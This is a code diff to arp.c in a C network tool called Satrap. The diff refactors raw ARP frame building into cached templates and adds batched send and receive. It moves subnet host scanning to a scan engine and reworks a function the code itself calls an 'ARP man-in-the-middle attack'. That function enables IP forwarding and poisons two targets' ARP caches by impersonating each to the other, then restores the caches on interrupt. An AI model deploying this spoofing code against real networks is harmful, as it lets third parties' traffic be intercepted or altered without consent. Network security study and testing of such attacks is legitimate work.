@@ -1,6 +1,123 @@
 /* Satrap/arp.c */
 
+#define _GNU_SOURCE /* sendmmsg(), recvmmsg() */
+
+#include <errno.h>
+
 #include "arp.h"
+#include "mitm.h"
+#include "scan.h"
+
+
+
+/* Builds an ARP frame
+
+   frame: the frame to fill
+   op: operation code (ARPOP_REQUEST or ARPOP_REPLY)
+   sender_ip: source IP address
+   sender_mac: source MAC address
+   target_ip: IP address of the target
+   target_mac: MAC address of the target, or NULL for a request sent
+   to the broadcast address
+ */
+void build_arp_frame(struct arp_frame *frame, unsigned short op, struct in_addr sender_ip, const unsigned char *sender_mac, struct in_addr target_ip, const unsigned char *target_mac)
+{
+  /* Ethernet header */
+  if (target_mac)
+    memcpy(frame->eth.ether_dhost, target_mac, ETHER_ADDR_LEN);
+  else
+    memset(frame->eth.ether_dhost, 0xff, ETHER_ADDR_LEN);
+  memcpy(frame->eth.ether_shost, sender_mac, ETHER_ADDR_LEN);
+  frame->eth.ether_type = htons(ETH_P_ARP);
+
+  /* ARP packet, as in send_arp_request() and send_arp_reply() */
+  struct ether_arp *arp = &frame->arp;
+  arp->arp_hrd = htons(ARPHRD_ETHER);
+  arp->arp_pro = htons(ETH_P_IP);
+  arp->arp_hln = ETHER_ADDR_LEN;
+  arp->arp_pln = sizeof(in_addr_t);
+  arp->arp_op = htons(op);
+  if (target_mac)
+    memcpy(&arp->arp_tha, target_mac, sizeof(arp->arp_tha));
+  else
+    memset(&arp->arp_tha, 0, sizeof(arp->arp_tha));
+  memcpy(&arp->arp_tpa, &target_ip.s_addr, sizeof(arp->arp_tpa));
+  memcpy(&arp->arp_sha, sender_mac, sizeof(arp->arp_sha));
+  memcpy(&arp->arp_spa, &sender_ip.s_addr, sizeof(arp->arp_spa));
+}
+
+
+
+/* Builds a template
+
+   tpl: the template to build
+   ifindex: index of the network interface
+   op: operation code (ARPOP_REQUEST or ARPOP_REPLY)
+   sender_ip: source IP address
+   sender_mac: source MAC address
+ */
+void arp_template_init(struct arp_template *tpl, int ifindex, unsigned short op, struct in_addr sender_ip, const unsigned char *sender_mac)
+{
+  struct in_addr zero = { 0 };
+  build_arp_frame(&tpl->frame, op, sender_ip, sender_mac, zero, NULL);
+
+  memset(&tpl->addr, 0, sizeof(tpl->addr));
+  tpl->addr.sll_family = AF_PACKET;
+  tpl->addr.sll_protocol = htons(ETH_P_ARP);
+  tpl->addr.sll_ifindex = ifindex;
+  tpl->addr.sll_halen = ETHER_ADDR_LEN;
+  memset(tpl->addr.sll_addr, 0xff, ETHER_ADDR_LEN);
+}
+
+
+
+/* Number of templates kept by arp_template_cached() */
+#define TEMPLATE_CACHE_SIZE 4
+
+/* Returns a template from a small per-thread cache, which is built
+   the first time it is needed. The template stays valid until it is
+   evicted by a few other ones, so it must not be kept. */
+const struct arp_template *arp_template_cached(int ifindex, unsigned short op, struct in_addr sender_ip, const unsigned char *sender_mac)
+{
+  static __thread struct arp_template cache[TEMPLATE_CACHE_SIZE];
+  static __thread unsigned int used, next;
+
+  for (unsigned int i = 0; i < used; ++i) {
+    struct arp_template *tpl = &cache[i];
+    if (tpl->addr.sll_ifindex == ifindex
+	&& tpl->frame.arp.arp_op == htons(op)
+	&& memcmp(&tpl->frame.arp.arp_spa, &sender_ip.s_addr, sizeof(sender_ip.s_addr)) == 0
+	&& memcmp(&tpl->frame.arp.arp_sha, sender_mac, ETHER_ADDR_LEN) == 0)
+      return tpl;
+  }
+
+  /* Not found: we replace the oldest template */
+  struct arp_template *tpl = &cache[next];
+  next = (next + 1) % TEMPLATE_CACHE_SIZE;
+  if (used < TEMPLATE_CACHE_SIZE)
+    ++used;
+  arp_template_init(tpl, ifindex, op, sender_ip, sender_mac);
+  return tpl;
+}
+
+
+
+/* Stamps broadcast frames for consecutive target IP addresses into a
+   contiguous buffer, ready to be sent as a batch
+
+   tpl: the template
+   frames: the frames to fill
+   first_ip: IP address of the target of the first frame
+   count: number of frames
+ */
+void arp_template_fill(const struct arp_template *tpl, struct arp_frame *frames, struct in_addr first_ip, unsigned int count)
+{
+  uint32_t ip = ntohl(first_ip.s_addr);
+  for (unsigned int i = 0; i < count; ++i) {
+    struct in_addr target = { htonl(ip + i) };
+    arp_template_stamp(tpl, &frames[i], target, NULL);
+  }
+}
 
 
 
@@ -19,55 +136,17 @@
 int send_arp_request(int sockfd, int ifindex, struct sockaddr_in *ipaddr, unsigned char *macaddr, struct in_addr target_ip)
 {
 
-  /* DEFINITION OF THE DESTINATION */
-  
-  /* The destination of the packet is contained in a struct
-     sockaddr_ll, that we fill with the broadcast address
-     ff:ff:ff:ff:ff:ff */
-  /* Broadcast address: */
-  const unsigned char ether_broadcast_addr[]= {0xff,0xff,0xff,0xff,0xff,0xff};
-
-  struct sockaddr_ll addr;
-  memset(&addr, 0, sizeof(addr));
-  addr.sll_family = AF_PACKET; /* always AF_PACKET */
-  addr.sll_protocol = htons(ETH_P_ARP); /* physical-layer protocol */
-  addr.sll_ifindex = ifindex; /* interface number */
-  addr.sll_halen = ETHER_ADDR_LEN; /* length of address */
-  /* physical-layer address: */
-  memcpy(addr.sll_addr, ether_broadcast_addr, ETHER_ADDR_LEN);
-  /* The following fields should be 0 when you send packets, see
-     packet(7) */
-  addr.sll_hatype = 0;
-  addr.sll_pkttype = 0;
-
-#ifdef DEBUG
-  printf("[OK] Destination structure (struct sockaddr_ll) "
-	 "constructed successfully\n");
-#endif
-
-  
-  /* ====================================================================== */
-
   /* CONSTRUCTION OF THE FRAME */
 
-  /* We can now build the ARP request frame, using the structures
-     defined in <netinet/if_ether.h> (included by
-     <netinet/ether.h>). */
-  struct ether_arp request;
-  request.arp_hrd = htons(ARPHRD_ETHER); /* hardware type: Ethernet */
-  request.arp_pro = htons(ETH_P_IP); /* Protocol type: IP */
-  request.arp_hln = ETHER_ADDR_LEN; /* Hardware address length */
-  request.arp_pln = sizeof(in_addr_t); /* Protocol address length */
-  request.arp_op = htons(ARPOP_REQUEST); /* Operation code */
-  /* Target hardware address: 0 since this is one we want */
-  memset(&request.arp_tha, 0, sizeof(request.arp_tha));
-  /* Target protocol address: we put the IP address for which we want
-     the layer-2 address */
-  memcpy(&request.arp_tpa, &target_ip.s_addr, sizeof(request.arp_tpa));
-  /* Source hardware address */
-  memcpy(&request.arp_sha, macaddr, sizeof(request.arp_sha));
-  /* Source protocol (IP) address */
-  memcpy(&request.arp_spa, &ipaddr->sin_addr, sizeof(request.arp_spa));
+  /* The destination of the packet (a struct sockaddr_ll, filled with
+     the broadcast address ff:ff:ff:ff:ff:ff) and the ARP request
+     frame only depend on the interface and on the sender, so they
+     come from a cached template: only the target IP address is
+     patched. */
+  const struct arp_template *tpl =
+    arp_template_cached(ifindex, ARPOP_REQUEST, ipaddr->sin_addr, macaddr);
+  struct arp_frame request;
+  arp_template_stamp(tpl, &request, target_ip, NULL);
 
 #ifdef DEBUG
   printf("[OK] ARP request structure (struct ether_arp) "
@@ -79,8 +158,8 @@ int send_arp_request(int sockfd, int ifindex, struct sockaddr_in *ipaddr, unsign
 
   /* SEND THE FRAME */
 
-  int err = sendto(sockfd, &request, sizeof(request), 0,
-		   (struct sockaddr *) &addr, sizeof(addr));
+  int err = sendto(sockfd, &request.arp, sizeof(request.arp), 0,
+		   (struct sockaddr *) &tpl->addr, sizeof(tpl->addr));
   if (err == -1) {
     perror("[FAIL] sendto()");
     exit(EXIT_FAILURE);
@@ -110,46 +189,18 @@ int send_arp_request(int sockfd, int ifindex, struct sockaddr_in *ipaddr, unsign
 int send_arp_reply(int sockfd, int ifindex, struct sockaddr_in *sender_ip, unsigned char *sender_mac, struct in_addr target_ip, unsigned char *target_mac)
 {
 
-  /* DEFINITION OF THE DESTINATION */
-  
-  /* The destination of the packet is contained in a struct
-     sockaddr_ll */
-  struct sockaddr_ll addr;
-  addr.sll_family = AF_PACKET; /* always AF_PACKET */
-  addr.sll_protocol = htons(ETH_P_ARP); /* physical-layer protocol */
-  addr.sll_ifindex = ifindex; /* interface number */
-  addr.sll_halen = ETHER_ADDR_LEN; /* length of address */
-  /* physical-layer address: */
-  memcpy(addr.sll_addr, target_mac, ETHER_ADDR_LEN);
-
-#ifdef DEBUG
-  printf("[OK] Destination structure (struct sockaddr_ll) "
-	 "constructed successfully\n");
-#endif
-
-  
-  /* ====================================================================== */
-
   /* CONSTRUCTION OF THE FRAME */
 
-  /* We can now build the ARP reply frame, using the structures
-     defined in <netinet/if_ether.h> (included by
-     <netinet/ether.h>). */
-  struct ether_arp reply;
-  reply.arp_hrd = htons(ARPHRD_ETHER); /* hardware type: Ethernet */
-  reply.arp_pro = htons(ETH_P_IP); /* Protocol type: IP */
-  reply.arp_hln = ETHER_ADDR_LEN; /* Hardware address length */
-  reply.arp_pln = sizeof(in_addr_t); /* Protocol address length */
-  reply.arp_op = htons(ARPOP_REPLY); /* Operation code */
-  /* Target hardware address: 0 since this is one we want */
-  memcpy(&reply.arp_tha, target_mac, sizeof(reply.arp_tha));
-  /* Target protocol address: we put the IP address for which we want
-     the layer-2 address */
-  memcpy(&reply.arp_tpa, &target_ip.s_addr, sizeof(reply.arp_tpa));
-  /* Sender hardware address */
-  memcpy(&reply.arp_sha, sender_mac, sizeof(reply.arp_sha));
-  /* Sender protocol (IP) address */
-  memcpy(&reply.arp_spa, &sender_ip->sin_addr, sizeof(reply.arp_spa));
+  /* The frame comes from a cached template, in which we patch the
+     target addresses. The destination of the packet (struct
+     sockaddr_ll) is the hardware address of the target. */
+  const struct arp_template *tpl =
+    arp_template_cached(ifindex, ARPOP_REPLY, sender_ip->sin_addr, sender_mac);
+  struct arp_frame reply;
+  arp_template_stamp(tpl, &reply, target_ip, target_mac);
+
+  struct sockaddr_ll addr = tpl->addr;
+  memcpy(addr.sll_addr, target_mac, ETHER_ADDR_LEN);
 
 #ifdef DEBUG
   printf("[OK] ARP reply structure (struct ether_arp) "
@@ -161,7 +212,7 @@ int send_arp_reply(int sockfd, int ifindex, struct sockaddr_in *sender_ip, unsig
 
   /* SEND THE FRAME */
 
-  int err = sendto(sockfd, &reply, sizeof(reply), 0,
+  int err = sendto(sockfd, &reply.arp, sizeof(reply.arp), 0,
 		   (struct sockaddr *) &addr, sizeof(addr));
   if (err == -1) {
     perror("[FAIL] sendto()");
@@ -196,7 +247,7 @@ int listen_arp_frame(int sockfd, struct ether_arp *result)
     if (ntohs (result->arp_op) != ARPOP_REPLY) {
       ++count;
       //printf("Operation: %d\n", ntohs(result->arp_op));
-      recv(sockfd, result, sizeof(struct ether_arp), 0);
+      len = recv(sockfd, result, sizeof(struct ether_arp), 0);
       continue;
     }
 
@@ -238,52 +289,202 @@ int listen_arp_frame(int sockfd, struct ether_arp *result)
 
 
 
+/* Number of messages given to sendmmsg() or recvmmsg() at once */
+#define ARP_BATCH 64
+
+
+/* Sends a batch of ARP frames, with as few sendmmsg() calls as
+   possible
+
+   sockfd: file descriptor of the socket (AF_PACKET, SOCK_DGRAM)
+   ifindex: index of the network interface
+   msgs: the frames to send, their status is updated
+   count: number of frames
+
+   Returns the number of frames sent. The function doesn't stop at the
+   first frame which fails: each frame has its own status.
+ */
+int send_arp_batch(int sockfd, int ifindex, struct arp_msg *msgs, unsigned int count)
+{
+  struct arp_frame frames[ARP_BATCH];
+  struct sockaddr_ll addrs[ARP_BATCH];
+  struct iovec iov[ARP_BATCH];
+  struct mmsghdr hdrs[ARP_BATCH];
+  int sent = 0;
+
+  for (unsigned int start = 0; start < count; start += ARP_BATCH) {
+    unsigned int n = count - start < ARP_BATCH ? count - start : ARP_BATCH;
+
+    /* We stamp the frames and their destinations from templates, the
+       same way as send_arp_request() and send_arp_reply() */
+    for (unsigned int i = 0; i < n; ++i) {
+      struct arp_msg *msg = &msgs[start + i];
+      const struct arp_template *tpl =
+	arp_template_cached(ifindex, msg->op, msg->sender_ip, msg->sender_mac);
+      arp_template_stamp(tpl, &frames[i], msg->target_ip, msg->target_mac);
+
+      addrs[i] = tpl->addr;
+      memcpy(addrs[i].sll_addr, frames[i].eth.ether_dhost, ETHER_ADDR_LEN);
+
+      iov[i].iov_base = &frames[i].arp;
+      iov[i].iov_len = sizeof(frames[i].arp);
+      memset(&hdrs[i], 0, sizeof(hdrs[i]));
+      hdrs[i].msg_hdr.msg_name = &addrs[i];
+      hdrs[i].msg_hdr.msg_namelen = sizeof(addrs[i]);
+      hdrs[i].msg_hdr.msg_iov = &iov[i];
+      hdrs[i].msg_hdr.msg_iovlen = 1;
+    }
+
+    /* sendmmsg() stops at the first frame which fails: we record its
+       error, and go on with the next ones */
+    unsigned int i = 0;
+    while (i < n) {
+      int done = sendmmsg(sockfd, &hdrs[i], n - i, 0);
+      if (done == -1) {
+	if (errno == EINTR)
+	  continue;
+	msgs[start + i].status = errno;
+	++i;
+	continue;
+      }
+      for (int j = 0; j < done; ++j)
+	msgs[start + i + j].status = 0;
+      i += done;
+      sent += done;
+    }
+  }
+
+#ifdef DEBUG
+  printf("[OK] %d frames out of %u sent\n", sent, count);
+#endif
+
+  return sent;
+}
+
+
+
+/* Receives a batch of ARP frames, with as few recvmmsg() calls as
+   possible. The frames of other protocols are skipped.
+
+   sockfd: the socket file descriptor (AF_PACKET, SOCK_DGRAM)
+   frames: the parsed ARP frames
+   count: maximum number of frames
+   flags: flags of recvmmsg(), e.g. MSG_DONTWAIT or MSG_WAITFORONE
+
+   Returns the number of frames received, or -1 on error.
+ */
+int recv_arp_batch(int sockfd, struct ether_arp *frames, unsigned int count, int flags)
+{
+  struct sockaddr_ll addrs[ARP_BATCH];
+  struct iovec iov[ARP_BATCH];
+  struct mmsghdr hdrs[ARP_BATCH];
+  unsigned int received = 0;
+
+  while (received < count) {
+    /* The frames are received in place, the skipped ones are
+       overwritten by the next call */
+    unsigned int n = count - received < ARP_BATCH ? count - received : ARP_BATCH;
+    for (unsigned int i = 0; i < n; ++i) {
+      iov[i].iov_base = &frames[received + i];
+      iov[i].iov_len = sizeof(struct ether_arp);
+      memset(&hdrs[i], 0, sizeof(hdrs[i]));
+      hdrs[i].msg_hdr.msg_name = &addrs[i];
+      hdrs[i].msg_hdr.msg_namelen = sizeof(addrs[i]);
+      hdrs[i].msg_hdr.msg_iov = &iov[i];
+      hdrs[i].msg_hdr.msg_iovlen = 1;
+    }
+
+    int done = recvmmsg(sockfd, hdrs, n, flags, NULL);
+    if (done == -1) {
+      if (errno == EINTR)
+	continue;
+      if (received > 0 && (errno == EAGAIN || errno == EWOULDBLOCK))
+	break;
+      return -1;
+    }
+
+    /* We keep the ARP frames only */
+    unsigned int kept = received;
+    for (int i = 0; i < done; ++i) {
+      if (addrs[i].sll_protocol != htons(ETH_P_ARP)
+	  || hdrs[i].msg_len < sizeof(struct ether_arp))
+	continue;
+      if (kept != received + i)
+	frames[kept] = frames[received + i];
+      ++kept;
+    }
+    received = kept;
+    if (received == 0)
+      continue; /* only frames of other protocols so far */
+
+    /* Nothing more is waiting */
+    if ((unsigned int) done < n)
+      break;
+    /* After the first frames, we don't wait for more */
+    flags |= MSG_DONTWAIT;
+  }
+
+  return received;
+}
+
+
+
+/* Prints the hosts found by arp_scan() */
+static void print_alive_host(struct in_addr ip, const unsigned char *mac, void *arg)
+{
+  unsigned char *bytes = (unsigned char *) &ip.s_addr;
+  printf("Host %d.%d.%d.%d is alive!\n",
+	 bytes[0], bytes[1], bytes[2], bytes[3]);
+}
+
+
+
 /* Scans the subnet by sending ARP requests. If a reply is received,
    we know that the target is alive.
 
-   sockfd: socket file descriptor
-   ifindex: index of the interface
+   io: frame I/O backend
+   hosts: table where the live hosts are recorded, or NULL
    ipaddr: local IP address
    macaddr: local hardware address
    netmask: local netmask
 
    Returns 0 when the scan is complete.
  */
-int arp_scan(int sockfd, int ifindex, struct sockaddr_in *ipaddr, unsigned char *macaddr, struct sockaddr_in *netmask)
+int arp_scan(struct frame_io *io, struct host_table *hosts, struct sockaddr_in *ipaddr, unsigned char *macaddr, struct sockaddr_in *netmask)
 {
 
-  /* Using the local IP address and netmask, we can loop on every IP
-     address on the subnet, and send to every one an ARP request. */
-
-  /* This counter will loop through every available IP address on the
-     current subnet */
-  unsigned long ip_counter = ntohl(ipaddr->sin_addr.s_addr) & ntohl(netmask->sin_addr.s_addr);
-  /* The maximum address on the subnet */
-  unsigned long ip_max = ip_counter | (~ntohl(netmask->sin_addr.s_addr));
-
-  struct ether_arp result;
-
-  while (ip_counter < ip_max) {
-    char ip_string[16];
-    struct in_addr target_ip;
-    target_ip.s_addr = htonl(ip_counter);
-    if (!inet_ntop(AF_INET, &target_ip.s_addr, ip_string, sizeof(ip_string))) {
-      perror("[FAIL] inet_ntop()");
-      exit(EXIT_FAILURE);
-    }
+  /* Using the local IP address and netmask, we compute the range of
+     addresses of the subnet. The network and broadcast addresses are
+     left out, except on point-to-point subnets (/31 and /32). */
+  uint32_t mask = ntohl(netmask->sin_addr.s_addr);
+  uint32_t network = ntohl(ipaddr->sin_addr.s_addr) & mask;
+  uint32_t broadcast = network | ~mask;
+  struct in_addr first, last;
+  if (broadcast - network >= 3) {
+    first.s_addr = htonl(network + 1);
+    last.s_addr = htonl(broadcast - 1);
+  }
+  else {
+    first.s_addr = htonl(network);
+    last.s_addr = htonl(broadcast);
+  }
 
-    send_arp_request(sockfd, ifindex, ipaddr, macaddr, target_ip);
+  /* The scan engine keeps many probes in flight, and matches the
+     replies to the probes by IP address */
+  struct scan_engine engine;
+  if (scan_init(&engine, io, ipaddr, macaddr, first, last) == -1) {
+    perror("[FAIL] scan_init()");
+    exit(EXIT_FAILURE);
+  }
+  engine.callback = print_alive_host;
+  engine.hosts = hosts;
 
-    int isalive = listen_arp_frame(sockfd, &result);
-    if (isalive == 0) {
-      printf("Host %d.%d.%d.%d is alive!\n",
-	     result.arp_spa[0],result.arp_spa[1],
-	     result.arp_spa[2],result.arp_spa[3]);
-    }
-    
-    ++ip_counter;
+  if (scan_run(&engine) == -1) {
+    perror("[FAIL] scan_run()");
+    exit(EXIT_FAILURE);
   }
 
+  scan_free(&engine);
   
   return 0;
 }
@@ -292,75 +493,76 @@ int arp_scan(int sockfd, int ifindex, struct sockaddr_in *ipaddr, unsigned char
 
 /* ARP man-in-the-middle attack.
 
-   sockfd: socket file descriptor
-   ifindex: index of the interface
+   io: frame I/O backend
+   hosts: table of the known hosts, or NULL. The targets found in the
+   table are not asked again.
    ipaddr: local IP address
    macaddr: local hardware address
    target1_ip: IP address of the first target
    target2_ip: IP address of the second target
 
-   Never returns, has to be killed by the user.
+   Returns 0 when interrupted by SIGINT or SIGTERM, once the caches of
+   the targets are restored.
  */
-int arp_mitm(int sockfd, int ifindex, struct sockaddr_in *ipaddr, unsigned char *macaddr, struct in_addr *target1_ip, struct in_addr *target2_ip)
+int arp_mitm(struct frame_io *io, struct host_table *hosts, struct sockaddr_in *ipaddr, unsigned char *macaddr, struct in_addr *target1_ip, struct in_addr *target2_ip)
 {
 
-  /* We build 2 pseudo-local IP addresses to impersonate both
-     targets */
-  struct sockaddr_in *ipaddr1 = malloc(sizeof(struct sockaddr_in));
-  struct sockaddr_in *ipaddr2 = malloc(sizeof(struct sockaddr_in));
-  ipaddr1->sin_family = AF_INET;
-  ipaddr1->sin_port = htons(5746);
-  ipaddr1->sin_addr = *target1_ip;
-  ipaddr2->sin_family = AF_INET;
-  ipaddr2->sin_port = htons(5746);
-  ipaddr2->sin_addr = *target2_ip;
-
-  /* ====================================================================== */
-  
   /* Ensures IP forwarding is enabled on Linux, in order to make he
      attacker "transparent" to packets moving form target1 to
      target2. This is not persistent on reboot. */
   system("echo 1 > /proc/sys/net/ipv4/ip_forward");
 
+  /* The engine finds the targets in the host table */
+  struct host_table local;
+  if (!hosts) {
+    if (hosts_init(&local, 0) == -1) {
+      perror("[FAIL] hosts_init()");
+      exit(EXIT_FAILURE);
+    }
+    hosts = &local;
+  }
+
   /* We send normal requests to both targets in order to get their
-     hardware addresses.  */
-  send_arp_request(sockfd, ifindex, ipaddr, macaddr, *target1_ip);
-  struct ether_arp reply1;
-  listen_arp_frame(sockfd, &reply1);
-  /*printf("%d\n", n);
-  if (n != 0) {
-    printf("[FAIL] No frame received\n");
+     hardware addresses, unless they are already known. */
+  unsigned char macaddr1[ETHER_ADDR_LEN];
+  if (arp_resolve(io, hosts, ipaddr, macaddr, *target1_ip, macaddr1) == -1) {
+    printf("[FAIL] Target 1 does not answer\n");
     exit(EXIT_FAILURE);
-    }*/
-  unsigned char *macaddr1 = reply1.arp_sha;
+  }
   printf("Target 1 hardware address: %02x:%02x:%02x:%02x:%02x:%02x\n",
     	 macaddr1[0],macaddr1[1],macaddr1[2],
     	 macaddr1[3],macaddr1[4],macaddr1[5]);
 
-  send_arp_request(sockfd, ifindex, ipaddr, macaddr, *target2_ip);
-  struct ether_arp reply2;
-  listen_arp_frame(sockfd, &reply2);
-  /*if (n != 0) {
-    printf("[FAIL] No frame received\n");
+  unsigned char macaddr2[ETHER_ADDR_LEN];
+  if (arp_resolve(io, hosts, ipaddr, macaddr, *target2_ip, macaddr2) == -1) {
+    printf("[FAIL] Target 2 does not answer\n");
     exit(EXIT_FAILURE);
-    }*/
-  unsigned char *macaddr2 = reply2.arp_sha;
+  }
   printf("Target 2 hardware address: %02x:%02x:%02x:%02x:%02x:%02x\n",
     	 macaddr2[0],macaddr2[1],macaddr2[2],
     	 macaddr2[3],macaddr2[4],macaddr2[5]);
 
   /* We send ARP requests and replies to both targets, impersonating
-     the other. We use both requests and replies because some devices
-     (linux > 2.4.x for example) don't update their ARP cache on
-     unsolicited replies, but do on queries. */
-  while(1) {
-    send_arp_request(sockfd, ifindex, ipaddr1, macaddr, *target2_ip);
-    send_arp_reply(sockfd, ifindex, ipaddr1, macaddr, *target2_ip, macaddr2);
-    sleep(1);
-    send_arp_request(sockfd, ifindex, ipaddr2, macaddr, *target1_ip);
-    send_arp_reply(sockfd, ifindex, ipaddr2, macaddr, *target1_ip, macaddr1);
-    sleep(1);
+     the other, one direction every interval. The engine builds the
+     frames only once. */
+  struct mitm_engine engine;
+  mitm_init(&engine, io, hosts, ipaddr, macaddr);
+  if (mitm_add_pair(&engine, *target1_ip, *target2_ip) == -1
+      || mitm_resolve(&engine) != 1) {
+    perror("[FAIL] mitm_resolve()");
+    exit(EXIT_FAILURE);
   }
 
+  if (mitm_run(&engine) == -1) {
+    perror("[FAIL] mitm_run()");
+    exit(EXIT_FAILURE);
+  }
+  printf("[OK] ARP caches restored: %zu of %zu targets in %.1f ms\n",
+	 engine.restore_confirmed, engine.restore_targets, engine.restore_time / 1e6);
+
+  mitm_free(&engine);
+  if (hosts == &local)
+    hosts_free(&local);
+
   return 0;
 }